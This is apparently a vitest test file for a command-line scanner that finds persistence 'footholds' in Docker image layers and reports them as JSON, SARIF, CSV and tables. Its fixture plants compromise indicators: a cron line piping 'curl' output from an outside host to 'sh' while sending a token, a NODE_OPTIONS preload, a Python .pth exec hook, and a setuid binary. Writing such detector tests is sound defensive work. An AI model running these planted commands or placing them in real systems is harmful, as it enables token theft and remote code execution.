import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { repositoryFile } from '../../fixtures-folder';
import { madeElf } from '../../engine-support/made-elf';
import { schemaCheck } from '../../engine-support/json-schema';
import { writeDockerArchive } from '../../engine-support/made-archive';
import { copyOf, emptyFolder, runCli } from './run-cli';

const archive = join(emptyFolder(), 'bare.tar');

interface Document {
  readonly footholds: readonly Readonly<Record<string, unknown>>[];
  readonly coverage: Readonly<Record<string, unknown>>;
}

function footholds(...args: readonly string[]): Document {
  const { status, stdout, stderr, left } = runCli(['footholds', ...args, '--json']);
  expect([status, stderr, left]).toEqual([0, '', []]);
  return JSON.parse(stdout) as Document;
}

/** Of each, its rule, place and fate. */
function told({ footholds: all }: Document): readonly unknown[] {
  return all.map(({ rule, severity, where, state, line }) => {
    const { path, layer, offset } = where as Readonly<Record<string, unknown>>;
    return [rule, severity, path, layer, offset, state, line];
  });
}

beforeAll(async () => {
  await writeDockerArchive(archive, [
    {
      tag: 'bare:1',
      env: ['PATH=/usr/bin:/bin', 'NODE_OPTIONS=--require /tmp/x.js'],
      layers: [
        [
          { name: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/:/usr/sbin/nologin\n' },
          { name: 'etc/shadow', content: 'root:*:1::::::\n' },
          { name: 'root/.bash_history', content: 'id\n' },
          { name: 'usr/bin/chfn', content: madeElf('plain-program'), mode: 0o755 },
          { name: 'etc/cron.d/run', content: '#\n* * * * * root curl -s http://192.0.2.7/?token=ghp_x | sh\n' },
        ],
        [
          { name: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/:/bin/bash\n' },
          { name: 'etc/shadow', content: 'root:$6$saltsalt$hashhashhash:1::::::\n' },
          { name: 'root/.wh..bash_history', content: '' },
          { name: 'usr/bin/chfn', content: madeElf('plain-program'), mode: 0o4755 },
          { name: 'etc/cron.d/.wh.run', content: '' },
          { name: 'etc/x\u001b[31m.pth', content: "import os; exec('1')\n" },
        ],
      ],
    },
  ]);
});

describe('footholds', () => {
  it('are told with rule, weight, layer, offset and fate; between layers too, and never a password', () => {
    const document = footholds(archive);
    expect(told(document)).toEqual([
      ['interpreter-env-suspicious', 'high', null, null, null, 'present', 'NODE_OPTIONS=--require /tmp/x.js'],
      ['password-set', 'medium', 'etc/shadow', 2, 0, 'present', 'root'],
      ['python-path-hook', 'medium', 'etc/x\u001b[31m.pth', 2, 0, 'present', "import os; exec('1')"],
      ['setuid-added', 'medium', 'usr/bin/chfn', 2, null, 'present', null],
      ['shell-given', 'low', 'etc/passwd', 2, 26, 'present', 'www-data'],
      [
        ...['cron-job-suspicious', 'low', 'etc/cron.d/run', 1, 2, 'deleted'],
        '* * * * * root curl -s http://192.0.2.7/?token=•••••••• | sh',
      ],
      ['history-deleted', 'low', 'root/.bash_history', 1, null, 'deleted', null],
    ]);
    expect(document.coverage).toMatchObject({ filesSeen: 9, notScanned: [], hasPackages: false });
  });

  it('keep to the published schema', () => {
    const schema = JSON.parse(readFileSync(repositoryFile('docs/schemas/footholds-1.schema.json'), 'utf8')) as object;
    const check = schemaCheck('2020-12').compile(schema);
    expect(check(footholds(archive)), JSON.stringify(check.errors)).toBe(true);
  });

  it('are printed as a table that no terminal obeys, with what was looked at', () => {
    const { status, stdout, stderr } = runCli(['footholds', archive]);
    expect(status).toBe(0);
    expect(stdout.split('\n')[0]).toMatch(/^SEVERITY +WHAT +WHERE +LAYER +STEP +VERDICT$/);
    expect(stdout).toContain('etc/shadow:1');
    expect(stdout + stderr).not.toContain('\u001b');
    expect(stderr).toContain('7 footholds\n9 files seen');
  });

  it('are written for other programs: SARIF and CSV', () => {
    const sarif = runCli(['footholds', archive, '--format', 'sarif']);
    expect([sarif.status, sarif.stderr]).toEqual([0, '']);
    const { runs } = JSON.parse(sarif.stdout) as { readonly runs: readonly { readonly results: readonly object[] }[] };
    expect(runs[0]?.results).toHaveLength(7);
    const csv = runCli(['footholds', archive, '--format', 'csv']);
    expect(csv.stdout.trim().split('\r\n')).toHaveLength(8);
    expect(sarif.stdout + csv.stdout).not.toMatch(/\u001b|hashhashhash/);
    expect(runCli(['footholds', archive, '--format', 'xml']).status).toBe(2);
  });

  it('of a library are read from its evidence, the same bytes each time; where it is gone, it says so', () => {
    const [copy, library] = [copyOf(archive), join(emptyFolder(), 'library')];
    expect(runCli(['add', copy, '--library', library]).status).toBe(0);
    const first = runCli(['footholds', '--library', library, '--json']);
    expect(first.stdout).toBe(runCli(['footholds', '--library', library, '--json']).stdout);
    expect(JSON.parse(first.stdout)).toEqual(footholds(archive));
    rmSync(copy);
    const gone = runCli(['footholds', '--library', library]);
    expect([gone.status, gone.stdout]).toEqual([3, '']);
  });
});
